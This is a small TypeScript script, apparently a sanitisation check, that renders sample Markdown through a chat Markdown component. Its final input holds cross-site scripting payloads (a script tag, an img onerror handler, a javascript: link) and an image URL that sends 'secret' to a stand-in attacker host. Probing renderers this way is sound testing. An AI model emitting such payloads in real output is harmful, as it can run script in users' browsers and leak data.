import { createElement } from "react";
import { prerender } from "react-dom/static";
import { Markdown } from "@/components/chat/markdown";
async function html(text: string) {
  const { prelude } = await prerender(createElement(Markdown, { text }));
  return await new Response(prelude).text();
}
console.log(await html("# Hi\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n- [x] done\n\n```ts\nconst a = 1;\n```\n\n$$x^2$$\n\n<script>alert(1)</script> <img src=x onerror=alert(1)> [x](javascript:alert(1)) ![i](https://evil.example/a.png?d=secret)"));
